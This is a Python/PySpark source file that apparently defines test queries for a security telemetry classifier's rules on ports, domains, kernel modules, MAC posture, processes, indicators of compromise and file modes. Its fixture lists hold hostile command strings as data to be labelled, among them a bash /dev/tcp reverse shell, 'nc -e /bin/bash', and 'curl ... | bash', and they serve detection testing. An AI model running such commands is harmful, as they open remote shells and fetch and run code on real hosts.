"""Queries for the telemetry classification rules (T-1 to T-9)."""

from __future__ import annotations

from pyspark.sql import functions as F

from vigil.operators import classify as cl
from vigil.plans import oracle as O
from vigil.plans.catalog import findings
from vigil.plans.registry import query
from vigil.sources import tables as tb


def _in(vals) -> str:
    return ", ".join(f"'{v}'" if isinstance(v, str) else str(v) for v in vals)


@query("port_classes", "WITH " + O.FINDINGS_CTE + f"""
SELECT id, port,
       CASE WHEN port IN ({_in(cl.COMMON_PORTS)}) THEN 'common'
            WHEN port IN ({_in(cl.WATCHLIST_PORTS)}) THEN 'watch_listed' ELSE 'other' END AS port_class,
       CASE port {" ".join(f"WHEN {p} THEN '{s}'" for p, s, _ in cl.COMMON_SERVICES)} END AS service,
       CASE port {" ".join(f"WHEN {p} THEN '{pr}'" for p, _, pr in cl.COMMON_SERVICES)} END AS service_process
FROM findings WHERE scanner = 'network'""", ops=("T-4",))
def q_port_classes(spark, sf_dir):
    net = tb.findings_from_events(tb.read(spark, sf_dir, "events"), scanners=["network"]).select("id", "port")
    return cl.classify_ports(net)


@query("dns_classes", f"""
WITH p AS (SELECT page_id, lower(regexp_extract(url, '^[a-zA-Z][a-zA-Z0-9+.-]*://([^/?#:]*)', 1)) AS domain FROM pages)
SELECT page_id, domain,
       CASE WHEN domain IN ({_in(cl.WATCHLIST_DOMAINS)}) THEN 'watch_listed'
            WHEN {" OR ".join(f"suffix(domain, '{t}')" for t in cl.SUSPECT_TLDS)} THEN 'suspect_tld'
            ELSE 'normal' END AS dns_class,
       CASE WHEN domain IN ({_in(cl.WATCHLIST_DOMAINS)}) THEN 'medium'
            WHEN {" OR ".join(f"suffix(domain, '{t}')" for t in cl.SUSPECT_TLDS)} THEN 'low' ELSE 'info' END AS severity,
       CAST(CASE WHEN domain IN ({_in(cl.WATCHLIST_DOMAINS)}) THEN 55.0
            WHEN {" OR ".join(f"suffix(domain, '{t}')" for t in cl.SUSPECT_TLDS)} THEN 28.0 ELSE 12.0 END AS DOUBLE)
         AS risk_score
FROM p""", ops=("T-5",))
def q_dns_classes(spark, sf_dir):
    pages = tb.read(spark, sf_dir, "pages").select("page_id", "url")
    return cl.classify_domains(pages).select("page_id", "domain", "dns_class", "severity", "risk_score")


def _module_case(field: int) -> str:
    whens = []
    for c, names, s, r in cl.MODULE_CLASSES:
        val = (f"'{c}'", f"'{s}'", f"CAST({r} AS DOUBLE)")[field]
        whens.append(f"WHEN module IN ({_in(names)}) THEN {val}")
    default = ("'other'", "'info'", "CAST(10 AS DOUBLE)")[field]
    return "CASE " + " ".join(whens) + f" ELSE {default} END"


@query("module_classes", "WITH " + O.HOST_FINDINGS_CTE + f""",
m AS (SELECT id, lower(trim(regexp_replace(coalesce(title, ''), '^Module ', ''))) AS module FROM hf
      WHERE scanner = 'modules')
SELECT id, module, {_module_case(0)} AS module_class, {_module_case(1)} AS class_severity,
       {_module_case(2)} AS class_risk
FROM m""", ops=("T-6",))
def q_module_classes(spark, sf_dir):
    mods = tb.host_findings(spark, sf_dir).where("scanner = 'modules'").select("id", "title")
    return cl.classify_modules(mods).select("id", "module", "module_class", "class_severity", "class_risk")


@query("mac_posture", "WITH " + O.HOST_FINDINGS_CTE + """
SELECT id,
       CASE WHEN coalesce(json_extract_string(metadata, '$.enabled'), '') <> 'true'
                 OR coalesce(TRY_CAST(json_extract_string(metadata, '$.unconfined_critical') AS INTEGER), 0) > 0
            THEN 'medium' ELSE 'low' END AS posture_severity,
       CAST(CASE WHEN coalesce(json_extract_string(metadata, '$.enabled'), '') <> 'true'
                 OR coalesce(TRY_CAST(json_extract_string(metadata, '$.unconfined_critical') AS INTEGER), 0) > 0
            THEN 50.0 ELSE 30.0 END AS DOUBLE) AS posture_risk
FROM hf WHERE scanner = 'mac'""", ops=("T-2",))
def q_mac_posture(spark, sf_dir):
    mac = tb.host_findings(spark, sf_dir).where("scanner = 'mac'").select("id", "metadata")
    return cl.apparmor_posture(mac).select("id", "posture_severity", "posture_risk")


# T-2 (SELinux, grsecurity, TOMOYO), T-1, T-3 over real columns; expected values are written out in the SQL -------
@query("mac_postures", """
WITH m AS (SELECT c_custkey, CASE c_custkey % 3 WHEN 0 THEN 'selinux' WHEN 1 THEN 'grsecurity' ELSE 'tomoyo' END AS module,
                  c_acctbal >= 0 AS present, c_acctbal >= 4000 AS enabled FROM customer)
SELECT c_custkey, module,
       CASE WHEN module = 'selinux' THEN CASE WHEN NOT present THEN 'low' WHEN NOT enabled THEN 'medium' ELSE 'info' END
            WHEN NOT present THEN 'info' WHEN enabled THEN 'low'
            WHEN module = 'grsecurity' THEN 'high' ELSE 'medium' END AS posture_severity,
       CAST(CASE WHEN module = 'selinux' THEN CASE WHEN NOT present THEN 30 WHEN NOT enabled THEN 50 ELSE 10 END
            WHEN NOT present THEN 10 WHEN enabled THEN 25
            WHEN module = 'grsecurity' THEN 80 ELSE 45 END AS DOUBLE) AS posture_risk
FROM m""", ops=("T-2",))
def q_mac_postures(spark, sf_dir):
    rows = tb.read(spark, sf_dir, "customer").select(
        "c_custkey", F.element_at(F.array(F.lit("selinux"), F.lit("grsecurity"), F.lit("tomoyo")),
                                  (F.col("c_custkey") % 3 + 1).cast("int")).alias("module"),
        (F.col("c_acctbal") >= 0).alias("present"), (F.col("c_acctbal") >= 4000).alias("enabled"))
    return cl.mac_posture(rows).drop("present", "enabled")


@query("parameter_drift", """
WITH p AS (SELECT p_partkey, CASE p_partkey % 5 WHEN 0 THEN 'ip_forward' WHEN 1 THEN 'rp_filter' WHEN 2 THEN 'accept_redirects'
                  WHEN 3 THEN 'tcp_syncookies' ELSE 'secure_redirects' END AS name,
                  CASE WHEN p_size % 7 = 0 THEN 'unset' ELSE CAST(p_size % 4 AS VARCHAR) END AS current FROM part),
     d AS (SELECT *, CASE WHEN name IN ('rp_filter', 'tcp_syncookies') THEN '1' ELSE '0' END AS desired,
                  CASE WHEN current = 'unset' THEN '0' ELSE current END AS shown FROM p)
SELECT p_partkey, name, current, desired, CASE WHEN current = desired THEN 'ok' ELSE 'mismatch' END AS status,
       CASE WHEN shown = desired THEN 'low' ELSE 'medium' END AS drift_severity,
       CAST(CASE WHEN shown = desired THEN 30 ELSE 50 END AS DOUBLE) AS drift_risk
FROM d""", ops=("T-1",))
def q_parameter_drift(spark, sf_dir):
    names = ["ip_forward", "rp_filter", "accept_redirects", "tcp_syncookies", "secure_redirects"]
    rows = tb.read(spark, sf_dir, "part").select(
        "p_partkey", F.element_at(F.array(*map(F.lit, names)), (F.col("p_partkey") % 5 + 1).cast("int")).alias("name"),
        F.when(F.col("p_size") % 7 == 0, "unset").otherwise((F.col("p_size") % 4).cast("string")).alias("current"))
    return cl.parameter_drift(rows)


@query("suid_flags", """
SELECT s_suppkey, CASE WHEN s_acctbal > 0 THEN 'low' ELSE 'medium' END AS suid_severity,
       CAST(CASE WHEN s_acctbal > 0 THEN 30 ELSE 50 END AS DOUBLE) AS suid_risk
FROM supplier""", ops=("T-3",))
def q_suid_flags(spark, sf_dir):
    rows = tb.read(spark, sf_dir, "supplier").select("s_suppkey", (F.col("s_acctbal") > 0).alias("expected"))
    return cl.suid_flag(rows).drop("expected")


# T-9, T-8, T-7 over event rows that take one of the listed commands or paths; the SQL states the class of each ------
# (command with the event's port and user, class, severity, risk)
COMMANDS = [
    ("/usr/sbin/sshd -D", "normal", "info", 10), ("/usr/bin/nc -l {port}", "suspicious", "medium", 50),
    ("/bin/bash -i >& /dev/tcp/h/{port}", "suspicious", "medium", 50), ("/tmp/.evil/t{user} --daemon", "malicious", "high", 80),
    ("/home/u{user}/.config/run", "malicious", "high", 80), ("/usr/local/bin/t{port}", "malicious", "high", 80),
    ("/proc/self/exe", "edge_case", "low", 30), ("", "edge_case", "low", 30), ("/opt/tool{user} -v", "other", "info", 10),
    ("/usr/bin/python3 app.py", "normal", "info", 10), ("/usr/bin/wget http://h{user}.example.com/p", "suspicious", "medium", 50),
]
# (path, rule, class, severity, risk)
WRITABLE = [
    ("/tmp/f{user}", "world_writable", "normal", "info", 10), ("/var/tmp/a/b{port}", "world_writable", "normal", "info", 10),
    ("/etc/passwd", "world_writable", "malicious", "high", 80), ("/etc/passwd.backup", "world_writable", "suspicious", "medium", 50),
    ("/home/u{user}/.ssh/authorized_keys", "world_writable", "suspicious", "medium", 50),
    ("/root/.ssh/authorized_keys", "world_writable", "malicious", "high", 80), ("/srv/d{port}", "world_writable", "other", "info", 10),
    ("/bin/ping", "file_capability", "file_capability", "medium", 50),
]
# (flags as JSON members, command, class, severity, risk)
INDICATORS = [
    ('"deleted_executable": "true"', "/usr/sbin/sshd (deleted)", "deleted_executable", "critical", 90),
    ('"world_writable_executable": "true"', "/tmp/x", "world_writable_executable", "high", 70),
    ('"pattern_match": "true"', "/usr/bin/nmap", "suspicious", "low", 30),
    ('"pattern_match": true', "/usr/bin/curl http://h/s | bash", "malicious", "high", 80),
    ('"pattern_match": "false"', "/usr/bin/nc -e /bin/bash h 4444", "normal", "info", 10),
    ('"pid": "7"', "/usr/bin/vim", "normal", "info", 10),
]


def _pick(values, n: str = "ord") -> F.Column:
    """The value whose place is the row's number modulo their count, with the row's port and user put in."""
    at = F.element_at(F.array(*map(F.lit, values)), (F.col(n) % len(values) + 1).cast("int"))
    return F.replace(F.replace(at, F.lit("{port}"), F.col("port").cast("string")), F.lit("{user}"), F.col("user_id").cast("string"))


def _pick_sql(values, kind: str = "VARCHAR") -> str:
    cases = " ".join(f"WHEN {i} THEN {O._sq(v) if isinstance(v, str) else v}" for i, v in enumerate(values))
    return f"CAST(CASE ord % {len(values)} {cases} END AS {kind})"


def _put(sql: str) -> str:
    return f"replace(replace({sql}, '{{port}}', CAST(port AS VARCHAR)), '{{user}}', CAST(user_id AS VARCHAR))"


def _classes_sql(rows, name: str) -> str:
    return (f"{_pick_sql([r[-3] for r in rows])} AS {name}, {_pick_sql([r[-2] for r in rows])} AS class_severity, "
            f"{_pick_sql([r[-1] for r in rows], 'DOUBLE')} AS class_risk FROM findings")


def with_commands(rows):
    return rows.withColumn("command", _pick([c[0] for c in COMMANDS]))


@query("process_classes", "WITH " + O.FINDINGS_CTE + f"""
SELECT id, {_put(_pick_sql([c[0] for c in COMMANDS]))} AS command, {_classes_sql(COMMANDS, 'process_class')}""", ops=("T-9",))
def q_process_classes(spark, sf_dir):
    rows = with_commands(findings(spark, sf_dir).select("id", "ord", "port", "user_id"))
    return cl.classify_processes(rows).drop("ord", "port", "user_id")


@query("ioc_classes", "WITH " + O.FINDINGS_CTE + f"""
SELECT id, {_classes_sql(INDICATORS, 'ioc_class')} WHERE scanner = 'ioc'""", ops=("T-8",))
def q_ioc_classes(spark, sf_dir):
    rows = tb.findings_from_events(tb.read(spark, sf_dir, "events"), scanners=["ioc"]).select("id", "ord", "port", "user_id")
    metadata = F.concat(F.lit("{"), _pick([i[0] for i in INDICATORS]), F.lit(', "command": "'), _pick([i[1] for i in INDICATORS]), F.lit('"}'))
    return cl.classify_indicators(rows.withColumn("metadata", metadata)).select("id", "ioc_class", "class_severity", "class_risk")


@query("file_mode_classes", "WITH " + O.FINDINGS_CTE + f"""
SELECT id, {_put(_pick_sql([w[0] for w in WRITABLE]))} AS path, {_classes_sql(WRITABLE, 'mode_class')}
WHERE scanner = 'world_writable'""", ops=("T-7",))
def q_file_mode_classes(spark, sf_dir):
    rows = tb.findings_from_events(tb.read(spark, sf_dir, "events"), scanners=["world_writable"]).select("id", "ord", "port", "user_id")
    rows = rows.withColumn("path", _pick([w[0] for w in WRITABLE])).withColumn("rule", _pick([w[1] for w in WRITABLE]))
    return cl.classify_file_modes(rows).select("id", "path", "mode_class", "class_severity", "class_risk")
